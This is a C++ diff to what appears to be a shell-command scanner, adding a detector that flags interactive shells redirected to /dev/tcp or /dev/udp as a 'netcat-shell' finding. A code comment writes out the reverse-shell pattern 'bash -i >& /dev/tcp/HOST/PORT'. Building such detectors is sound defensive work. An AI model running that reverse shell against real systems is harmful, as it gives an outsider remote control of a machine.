@@ -81,6 +81,19 @@ bool hands_out_shell(std::string_view program, std::span<const CommandWord> argu
            is_in(shells, program_name((found + 1)->text));
 }
 
+// bash -i >& /dev/tcp/HOST/PORT. A shell that only echoes there waits for a port.
+bool talks_to_network(const ShellCommand& command)
+{
+    const auto is_interactive = [](const CommandWord& word) {
+        return word.text == "-i" || word.text == "-li";
+    };
+    const auto is_connection = [](const CommandWord& word) {
+        return word.text.starts_with("/dev/tcp/") || word.text.starts_with("/dev/udp/");
+    };
+    return std::any_of(command.words.begin(), command.words.end(), is_interactive) &&
+           std::any_of(command.written.begin(), command.written.end(), is_connection);
+}
+
 class CommandReader {
 public:
     CommandReader(RoledCommands& to, Variables& variables, ScanRole program_role,
@@ -153,7 +166,7 @@ private:
         if (const auto* interpreter = interpreter_of(program))
             return read_interpreter(command, *interpreter, words);
         if (is_in(fetchers, program))
-            return read_fetcher(arguments);
+            return read_fetcher(words);
         if (is_in(file_programs, program))
             return add_all(arguments, ScanRole::Files);
         if (is_in(mentioning_programs, program))
@@ -191,6 +204,8 @@ private:
     {
         const auto program = program_name(words[0].text);
         const auto arguments = words.subspan(1);
+        if (talks_to_network(command))
+            deed("netcat-shell", words[0], cat(line_of(words), " >", command.written[0].text));
         if (program == "eval")
             return read_evaluated(arguments);
         const auto script =
@@ -345,10 +360,11 @@ private:
             add(words[0], program_role_, command.input);
     }
 
-    void read_fetcher(Words arguments)
+    void read_fetcher(Words words)
     {
+        add(words[0], program_role_);
         std::string_view option;
-        for (const auto& word : arguments) {
+        for (const auto& word : words.subspan(1)) {
             const auto names_file = option == "-o" || option == "-O" || option == "--output";
             option = word.text;
             if (names_file && !is_address(word.text))
